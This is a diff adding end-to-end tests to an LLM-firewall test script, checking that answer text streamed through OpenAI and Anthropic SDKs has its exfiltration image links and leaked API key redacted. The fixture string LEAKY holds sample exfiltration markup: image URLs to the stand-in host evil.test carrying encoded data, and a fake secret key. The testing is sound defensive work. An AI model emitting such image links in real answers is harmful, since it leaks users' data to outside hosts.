@@ -3,7 +3,10 @@
 Usage: check_streams.py LISTEN_PORT
 
 The upstream is `llmfw-demo-upstream`: a last user text `{"tool": NAME, "arguments": {...}}`
-makes it propose that call. The filter's plugin config must deny `delete_*`. Every check
+makes it propose that call, `{"text": T, "pieces": N}` answers T (streamed in N deltas). The
+filter's plugin config must deny `delete_*` and allow-list no host but `docs.example.com`
+(`detect.exfil_allow_hosts`): the answer-text checks expect the image URL and the key in
+`LEAKY` replaced in whatever the SDK assembles (JSON, stream iterators, stream helpers). Every check
 prints one line (`ok   NAME` or `FAIL NAME: exception` and a short traceback); exits 1 when
 any check failed. Run by tests/tests/e2e_sdk.rs; needs `make tools` for the SDKs.
 """
@@ -73,6 +76,26 @@ def strict(event):
 
 def refusal_text_ok(text, name):
     check(name in text and "blocked" in text, f"refusal text lacks {name!r}/'blocked': {text!r}")
+
+
+# The model's answer text: an image carrying data to a host not allow-listed and a key, split
+# over many deltas by the upstream; what every SDK path assembles must be REDACTED.
+LEAKY = (
+    "Summary: ![chart](https://evil.test/c.png?d=c2VjcmV0) and ![ok](https://docs.example.com/a.png) "
+    "<img src=\"https://evil.test/i.gif\"> key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 end."
+)
+REDACTED = (
+    "Summary: ![chart]([llmfw:redacted-url]) and ![ok](https://docs.example.com/a.png) "
+    "<img src=\"[llmfw:redacted-url]\"> key [llmfw:redacted-secret] end."
+)
+# Sent as the `x-demo-reply` script: the request's own text is judged too, and an exfiltration
+# link in it would be refused.
+REPLY = {"x-demo-reply": json.dumps({"text": LEAKY, "pieces": 50})}
+ASK = "Summarise the report."
+
+
+def redacted_ok(text, where):
+    check(text == REDACTED, f"{where}: {text!r}")
 
 
 # --- OpenAI Chat Completions ---------------------------------------------------------------
@@ -152,6 +175,32 @@ def check_chat_helper_allowed(port):
     check(choice.finish_reason == "tool_calls", f"finish_reason {choice.finish_reason!r}")
 
 
+def chat_client(port):
+    return openai.OpenAI(
+        api_key="sk-dummy", base_url=f"http://127.0.0.1:{port}/v1",
+        default_headers=headers("sdk-chat-text"), max_retries=0,
+    )
+
+
+def check_chat_text_redacted(port):
+    client = chat_client(port).with_options(default_headers={**headers("sdk-chat-text"), **REPLY})
+    messages = [{"role": "user", "content": ASK}]
+    completion = client.chat.completions.create(model=MODEL, messages=messages)
+    redacted_ok(completion.choices[0].message.content, "create()")
+    stream = client.chat.completions.create(model=MODEL, messages=messages, stream=True)
+    text = ""
+    for chunk in stream:
+        strict(chunk)
+        for choice in chunk.choices:
+            text += choice.delta.content or ""
+    redacted_ok(text, "create(stream) deltas")
+    with client.chat.completions.stream(model=MODEL, messages=messages) as stream:
+        deltas = "".join(e.delta for e in stream if e.type == "content.delta")
+        final = stream.get_final_completion()
+    redacted_ok(deltas, "stream() content.delta events")
+    redacted_ok(final.choices[0].message.content, "stream() final completion")
+
+
 # --- OpenAI Responses ----------------------------------------------------------------------
 
 
@@ -208,6 +257,38 @@ def check_responses_helper_allowed(port):
     check(len(calls) == 1, f"output: {[item.type for item in response.output]}")
     check(calls[0].name == ALLOWED[0], f"name {calls[0].name!r}")
     check(json.loads(calls[0].arguments) == ALLOWED[1], f"arguments {calls[0].arguments!r}")
+
+
+def check_responses_text_redacted(port):
+    client = responses_client(port, "sdk-responses-text").with_options(
+        default_headers={**headers("sdk-responses-text"), **REPLY})
+    response = client.responses.create(model=MODEL, input=ASK)
+    redacted_ok(response.output_text, "create()")
+    stream = client.responses.create(model=MODEL, input=ASK, stream=True)
+    deltas, seen = "", set()
+    for event in stream:
+        strict(event)
+        if event.type == "response.output_text.delta":
+            deltas += event.delta
+        elif event.type == "response.output_text.done":
+            redacted_ok(event.text, "output_text.done")
+            seen.add(event.type)
+        elif event.type == "response.content_part.done":
+            redacted_ok(event.part.text, "content_part.done")
+            seen.add(event.type)
+        elif event.type == "response.output_item.done":
+            redacted_ok(event.item.content[0].text, "output_item.done")
+            seen.add(event.type)
+        elif event.type == "response.completed":
+            redacted_ok(event.response.output_text, "response.completed")
+            seen.add(event.type)
+    redacted_ok(deltas, "create(stream) deltas")
+    check(len(seen) == 4, f"repeated forms seen: {sorted(seen)}")
+    with client.responses.stream(model=MODEL, input=ASK) as stream:
+        for _ in stream:
+            pass
+        final = stream.get_final_response()
+    redacted_ok(final.output_text, "stream() final response")
 
 
 # --- Anthropic Messages --------------------------------------------------------------------
@@ -273,6 +354,29 @@ def check_anthropic_helper_allowed(port):
     check(message.stop_reason == "tool_use", f"stop_reason {message.stop_reason!r}")
 
 
+def check_anthropic_text_redacted(port):
+    client = anthropic_client(port, "sdk-anthropic-text").with_options(
+        default_headers={**headers("sdk-anthropic-text"), **REPLY})
+    args = {"model": "claude-demo", "max_tokens": 256,
+            "messages": [{"role": "user", "content": ASK}]}
+    message = client.messages.create(**args)
+    redacted_ok(message.content[0].text, "create()")
+    stream = client.messages.create(stream=True, **args)
+    text = ""
+    for event in stream:
+        strict(event)
+        if event.type == "content_block_start" and event.content_block.type == "text":
+            text += event.content_block.text
+        elif event.type == "content_block_delta" and event.delta.type == "text_delta":
+            text += event.delta.text
+    redacted_ok(text, "create(stream) deltas")
+    with client.messages.stream(**args) as stream:
+        streamed = "".join(stream.text_stream)
+        final = stream.get_final_message()
+    redacted_ok(streamed, "stream() text_stream")
+    redacted_ok("".join(b.text for b in final.content if b.type == "text"), "stream() final message")
+
+
 CHECKS = [
     ("openai chat create(stream) denied", check_chat_denied),
     ("openai chat create(stream) allowed", check_chat_allowed),
@@ -284,6 +388,9 @@ CHECKS = [
     ("anthropic messages create(stream) denied", check_anthropic_create_denied),
     ("anthropic messages stream() final denied", check_anthropic_helper_denied),
     ("anthropic messages stream() final allowed", check_anthropic_helper_allowed),
+    ("openai chat answer text redacted (json, stream, helper)", check_chat_text_redacted),
+    ("openai responses answer text redacted (json, stream, helper)", check_responses_text_redacted),
+    ("anthropic messages answer text redacted (json, stream, helper)", check_anthropic_text_redacted),
 ]
 
 
